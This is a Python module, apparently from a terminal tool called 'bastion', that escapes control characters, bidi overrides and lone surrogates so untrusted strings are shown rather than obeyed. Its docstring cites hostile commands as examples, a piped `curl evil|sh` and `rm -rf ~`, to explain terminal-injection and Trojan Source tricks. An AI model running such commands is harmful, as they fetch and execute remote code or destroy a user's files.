"""Text from elsewhere, made safe to show: every control character visible.

A repository, a model, a command, a hook or an MCP server can put any character
into a string bastion later shows: a hook command in the trust screen, a tool's
arguments in its row, a command's output, a session's title. Written to a
terminal as they are, some of those characters act instead of being seen:
`ESC [2K` erases the line the trust screen was showing (so `curl evil|sh` reads
as the harmless command printed after it), `ESC ]52;c;…` writes the user's
clipboard, `ESC ]0;…` retitles the window, a carriage return or a backspace
overprints, and a bidirectional override makes the terminal draw `rm -rf ~ #`
backwards. Rich and Textual drop BEL, BS, VT, FF and CR themselves, but pass ESC,
the other C0 characters, DEL, the C1 characters and the bidi controls straight
through to the terminal (an experiment over Text, Content, Static, Markdown and
RichLog showed it), and a lone surrogate (a file name that is not UTF-8, decoded
with `surrogateescape`) cannot be written to a terminal at all.

So every front end passes such text through `visible` where it leaves the
runtime for the screen (the data itself is kept as it is: the model, the store
and the JSON formats see the real characters). The visible forms:

- C0 controls and DEL in caret notation, as `cat -v`, Vim and prompt_toolkit
  (the `--plain` prompt) show them: ESC is `^[`, CR `^M`, BEL `^G`, DEL `^?`.
  Newline and tab are kept where the text is shown on several lines (an answer,
  a command's output); where it is one line (a title, a trust-screen line, a
  tool row) they are shown too, as `^J` and `^I`. A CRLF line end is a line end.
- C1 controls as `\\x9b` (U+009B is the one-byte CSI: a terminal reading C1
  acts on it as on `ESC [`).
- A lone surrogate as the byte it stands for, `\\xff`, when it is one
  `surrogateescape` made of an undecodable byte, else as `\\udxxx`.
- The characters with the Unicode Bidi_Control property (U+061C, U+200E,
  U+200F, U+202A-U+202E, U+2066-U+2069) as `\\u202e`: a terminal that applies
  the bidirectional algorithm would otherwise reorder the line (the "Trojan
  Source" attack: what is shown is not the order of what runs), and Textual's
  own layout assumes left-to-right cells. Shown, the override is visibly there
  and the text keeps its stored order.

Everything else, including all printable Unicode, is left as it is: homoglyphs,
zero-width characters and the line separators U+2028 and U+2029 are not control
characters a terminal acts on (an answer keeps its U+2028 on stdout), and hiding
them would mangle ordinary text.

`visible_json` is `json.dumps` for output a terminal may show: the JSON encoder
already escapes C0 (`\\u001b`), and this escapes the rest of the set above the
same way, so the document decodes to exactly the same value.
"""

from __future__ import annotations

# (`bastion sessions` prints through this: it loads neither typing nor, for the usual
# ASCII titles and paths, re; see `_patterns`)
TYPE_CHECKING = False
if TYPE_CHECKING:
    import re
    from typing import Any

__all__ = ["visible", "visible_json"]

_C1_AND_BIDI = (
    "\x7f-\x9f"  # DEL and the C1 controls
    "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"  # Bidi_Control
    "\ud800-\udfff"  # lone surrogates
)
_compiled: tuple[re.Pattern[str], re.Pattern[str], re.Pattern[str]] | None = None


def _patterns() -> tuple[re.Pattern[str], re.Pattern[str], re.Pattern[str]]:
    """(several lines, one line, JSON): what each shows, compiled on first use."""
    global _compiled
    if _compiled is None:
        import re

        _compiled = (
            re.compile(f"[\x00-\x08\x0b-\x1f{_C1_AND_BIDI}]"),
            re.compile(f"[\x00-\x1f{_C1_AND_BIDI}]"),
            re.compile(f"[{_C1_AND_BIDI}]"),
        )
    return _compiled


def _shown(match: re.Match[str]) -> str:
    char = match.group()
    code = ord(char)
    if code < 0x20 or code == 0x7F:
        return "^" + chr(code ^ 0x40)
    if code < 0xA0:
        return f"\\x{code:02x}"
    if 0xDC80 <= code <= 0xDCFF:  # a byte `surrogateescape` could not decode
        return f"\\x{code - 0xDC00:02x}"
    return f"\\u{code:04x}"


def visible(text: str, *, lines: bool = True) -> str:
    """`text` with every control character shown rather than obeyed (see the module
    docstring for the forms). `lines`: it is shown on several lines, so newlines and
    tabs stay as they are (and CRLF becomes a newline); else they are shown as `^J`
    and `^I` too."""
    if text.isascii() and text.isprintable():  # (the usual title, path or line)
        return text
    several, one, _ = _patterns()
    if lines:
        if "\r" in text:
            text = text.replace("\r\n", "\n")
        if several.search(text) is None:
            return text
        return several.sub(_shown, text)
    if one.search(text) is None:
        return text
    return one.sub(_shown, text)


def _escaped(match: re.Match[str]) -> str:
    return f"\\u{ord(match.group()):04x}"


def visible_json(value: Any, **options: Any) -> str:
    """`json.dumps(value, ensure_ascii=False, **options)` with DEL, the C1 controls,
    the bidi controls, the separators and lone surrogates escaped as `\\uXXXX`: the
    same JSON value, safe on a terminal and always encodable as UTF-8."""
    import json

    text = json.dumps(value, ensure_ascii=False, **options)
    return _patterns()[2].sub(_escaped, text)
